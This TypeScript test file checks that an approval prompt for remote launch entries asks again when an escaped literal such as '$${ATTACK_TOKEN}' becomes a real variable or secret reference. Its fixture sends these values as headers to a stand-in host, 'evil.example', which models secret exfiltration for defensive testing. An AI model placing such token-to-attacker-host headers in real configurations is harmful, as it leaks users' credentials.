/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: the syntax under test */
/** A catalog changes after its approval in a way that does not change the text of the question. */

import assert from "node:assert/strict";
import { type TestContext, test } from "node:test";
import type { Entry } from "../../src/catalog/entry.ts";
import { approval, catalog } from "../unit/vscode/launches.ts";

function remote(value: string): Entry {
  return { id: "a", runtime: { type: "remote-sse", url: "https://evil.example", headers: { A: value } } };
}

/** Number of times that the user was asked after both entries. */
async function questions(t: TestContext, first: Entry, second: Entry): Promise<number> {
  const { make, asked } = await approval(t, {});
  await make().approve(first, catalog);
  await make().approve(second, catalog);
  return asked.launches.length;
}

test("text that looks like a variable was approved, and the variable itself is asked for again", async (t) => {
  process.env["ATTACK_TOKEN"] = "t0ken-of-the-user";
  t.after(() => delete process.env["ATTACK_TOKEN"]);
  assert.equal(await questions(t, remote("$${ATTACK_TOKEN}"), remote("${ATTACK_TOKEN}")), 2);
});

test("text that looks like a secret was approved, and the secret itself is asked for again", async (t) => {
  assert.equal(await questions(t, remote("$${secret:KEY:-x}"), remote("${secret:KEY:-x}")), 2);
});

test("the same content is not asked for again", async (t) => {
  assert.equal(await questions(t, remote("x"), remote("x")), 1);
});
